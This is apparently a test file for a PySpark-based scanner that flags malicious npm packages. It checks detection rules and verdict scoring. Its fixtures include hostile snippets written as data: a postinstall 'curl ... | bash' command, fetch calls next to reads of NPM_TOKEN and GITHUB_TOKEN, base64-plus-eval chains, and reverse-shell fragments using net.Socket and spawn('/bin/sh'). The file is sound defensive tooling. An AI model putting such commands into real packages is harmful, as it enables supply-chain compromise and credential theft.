from pyspark.sql import functions as F

from sievework.operators import decide, rules
from sievework.plans.testbed import B64


def found(spark, code, manifest='{"name":"left-pad"}', path="index.js", more=()):
    files = spark.createDataFrame([(1, path, code), *((1, p, c) for p, c in more)], "package_id long, path string, code string")
    manifests = spark.createDataFrame([(1, manifest)], "package_id long, raw string")
    return {r["rule_id"]: r for r in rules.rule_hits(files, manifests).collect()}


def test_credentials_need_two_names_and_a_send(spark):
    both = "fetch('x');\nprocess.env.NPM_TOKEN; process.env['GITHUB_TOKEN']"
    assert found(spark, "\n" + both)["CRIT_EXFIL_CREDENTIALS"]["line_number"] == 2
    assert "CRIT_EXFIL_CREDENTIALS" not in found(spark, "fetch('x'); process.env.NPM_TOKEN; process.env.NPM_TOKEN")


def test_clean_code_has_no_hits(spark):
    assert found(spark, "function add(a, b) { return a + b; }\nmodule.exports = add;") == {}


def test_dynamic_require(spark):
    assert "CRIT_DYNAMIC_REQUIRE_EXEC" in found(spark, "const m = require(atob('ZnM=')); eval(m);")
    assert "CRIT_DYNAMIC_REQUIRE_EXEC" not in found(spark, "const m = require('fs'); atob('x')")
    assert "CRIT_DYNAMIC_REQUIRE_EXEC" not in found(spark, "const m = require( 'fs'); atob('x')")


def test_encoded_chain_in_a_window(spark):
    chain = f"const p = '{B64}';\nconst q = atob(p);\neval(q);"
    assert found(spark, "\n" * 3 + chain)["HIGH_ENCODED_PAYLOAD_CHAIN"]["line_number"] == 1
    assert "HIGH_ENCODED_PAYLOAD_CHAIN" not in found(spark, f"const p = '{B64}';" + "\n" * 40 + "atob(p); eval(q);")


def test_reverse_shell_lines_must_be_near(spark):
    near = "new net.Socket();\n" + "\n" * 28 + "spawn('/bin/sh');\ns.pipe (x)"
    assert "CRIT_REVERSE_SHELL" in found(spark, near)
    assert "CRIT_REVERSE_SHELL" not in found(spark, near.replace("\n" * 28, "\n" * 40))


def test_hook_with_local_require(spark):
    manifest = '{"name":"x-tool","scripts":{"postinstall":"node ./install.js"}}'
    hits = found(spark, "require('./lib/a')", manifest, "install.js", [("lib/a.js", "fetch('https://a.example')")])
    assert {"CRIT_INSTALL_HOOK_NETWORK", "MED_INSTALL_HOOK_EXISTS"} <= set(hits)
    assert "CRIT_INSTALL_HOOK_NETWORK" not in found(spark, "require('../lib/a')", manifest, "install.js", [("lib/a.js", "fetch('https://a.example')")])


def test_manifest_rules(spark):
    one = lambda command: set(found(spark, "\n" * 60, '{"name":"x-tool","scripts":{"postinstall":"' + command + '"},"dependencies":{"a":"1"}}'))
    assert {"CRIT_MANIFEST_CURL_PIPE", "HIGH_MANIFEST_SUSPICIOUS_URL", "CRIT_INSTALL_HOOK_EXEC"} <= one("curl https://a.example/x | bash")
    assert "CRIT_MANIFEST_NODE_EVAL" in one("node -e 'require(1)'")
    assert one("husky install") == {"MED_INSTALL_HOOK_EXISTS"}


def test_risk(spark):
    full = '{"name":"a-tool","repository":{"url":"x"},"license":"MIT","description":"a description that is long","dependencies":{"a":"1"}}'
    bare = '{"name":"a-tool","scripts":{"postinstall":"node x.js"}}'
    df = rules.metadata_risk(spark.createDataFrame([(1, full), (2, bare), (3, "{}"), (4, None)], "package_id long, raw string"))
    assert {r["package_id"]: round(r["risk"], 2) for r in df.collect()} == {1: 0.0, 2: 0.55, 3: 0.2, 4: 0.2}


def verdict(spark, gnn, weighted=0.0, hard=0.0, total=0.0, risk=0.0, hook=False):
    g = F.lit(gnn).cast("double")
    return spark.range(1).select(decide.live_decision(g, F.lit(weighted), F.lit(hard), F.lit(total), F.lit(risk), F.lit(hook)).alias("d")).first()["d"]["verdict"]


def test_live_decision(spark):
    assert [verdict(spark, g, hook=True) for g in (0.5, 0.4, 0.3)] == ["malicious", "malicious", "clean"]
    assert verdict(spark, 0.3, weighted=0.4, hook=True) == "suspicious"
    assert [verdict(spark, g) for g in (0.4, 0.82)] == ["suspicious", "malicious"]
    assert verdict(spark, 0.5, weighted=0.2) == "suspicious"
    assert verdict(spark, None, hard=15.0) == "malicious"
    assert verdict(spark, None) == "clean"


def test_replay_scores(spark):
    score = lambda hard: decide.weighted_of(F.array(*map(F.lit, ["CRIT_EXFIL_CREDENTIALS", "HIGH_RUNTIME_PROTOTYPE_POLLUTION", "MED_MINIFIED_SINGLE_FILE"])), {"CRIT_EXFIL_CREDENTIALS": 10.0, "HIGH_RUNTIME_PROTOTYPE_POLLUTION": 7.0, "MED_MINIFIED_SINGLE_FILE": 2.0}, hard)
    row = spark.range(1).select(score(False).alias("w"), score(True).alias("h")).first()
    assert (row["w"], row["h"]) == (11.4, 10.0)
